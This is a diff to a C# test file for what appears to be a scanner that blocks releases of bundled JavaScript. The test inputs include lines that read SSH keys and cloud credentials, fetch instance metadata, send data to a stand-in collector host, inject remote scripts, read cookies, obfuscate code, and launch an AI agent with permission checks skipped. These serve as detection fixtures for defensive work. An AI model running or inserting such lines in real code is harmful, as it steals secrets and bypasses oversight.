@@ -30,6 +30,11 @@ public sealed class BundledProgramTests
     [InlineData("deviation/private-place", "fs.readFileSync(os.homedir() + '/.ssh/id_rsa');")]
     [InlineData("deviation/private-place", "for (const name of ['.npmrc', '.aws/credentials', '.netrc']) fs.readFileSync(os.homedir() + '/' + name);")]
     [InlineData("deviation/private-place", "window.ethereum.request = (a) => a;")]
+    [InlineData("deviation/private-place", "ethereum.request = (a) => a;")]
+    [InlineData("deviation/new-capability", "var s = document.createElement('script'); s.src = 'https://collector.example/m.js'; document.head.appendChild(s);")]
+    [InlineData("deviation/new-capability", "window[process.argv[2]] = async (...a) => fetch('https://collector.example/', { body: a });")]
+    [InlineData("deviation/minification", "(function(c,d){const f=c();while(!![]){try{if(parseInt(b(418))===d)break;else f['push'](f['shift']());}catch(h){f['push'](f['shift']());}}}(a,258721));")]
+    [InlineData("deviation/new-host", "fetch(['https://', 'collec', 'tor.exa', 'mple/'].join(''), { method: 'POST' });")]
     [InlineData("deviation/private-place", "spawn('claude', ['--dangerously-skip-permissions']);")]
     [InlineData("deviation/private-place", "fetch('http://169.254.169.254/latest/meta-data/');")]
     public void One_line_that_steals_stops_the_release(string rule, string line)
@@ -42,6 +47,10 @@ public sealed class BundledProgramTests
 
     [Theory]
     [InlineData("deviation/new-program", "execSync('tar -xf a.tar');", Severity.Low)]
+    [InlineData("deviation/new-capability", "module.exports.load = (name) => require(name);", Severity.Low)]
+    [InlineData("deviation/new-capability", "module.exports.show = (i, url) => { i.src = url; };", Severity.Low)]
+    [InlineData("deviation/new-capability", "module.exports.call = (name) => globalThis[name](1);", Severity.Medium)]
+    [InlineData("deviation/private-place", "module.exports.cookie = () => document.cookie;", Severity.Medium)]
     [InlineData("deviation/private-place", "fs.readFileSync(os.homedir() + '/.npmrc');", Severity.Medium)]
     [InlineData("deviation/private-place", "fs.readFileSync(os.homedir() + '/.gitconfig');", Severity.Medium)]
     public void What_tools_come_to_do_warns(string rule, string line, Severity severity)
@@ -58,6 +67,7 @@ public sealed class BundledProgramTests
     [InlineData("const names = { sh: 'Shell', bash: 'Bash', curl: 'cURL' }, types = ['curl', 'wget', 'powershell'];")]
     [InlineData("const logo = atob('iVBORw0KGgoAAAANSUhEUg=='), greeting = atob('<Hello, world>');")]
     [InlineData("const space = decodeURIComponent('%20'), mark = String.fromCharCode(0xfe, 0xff), pdf = String.fromCharCode(37, 80, 68, 70);")]
+    [InlineData("queue.push(queue.shift()); const line = ['a', 'b'].join(''); globalThis.acme = {}; require('./a'); import('./b');")]
     [InlineData("execSync('git log -1'); execSync(`git show ${process.argv[2]}`);")]
     [InlineData("const old = XMLHttpRequest.prototype; if (old.send) run(old);")]
     [InlineData("document.querySelector('.profile').classList.add('docker', 'azure', 'aws');")]
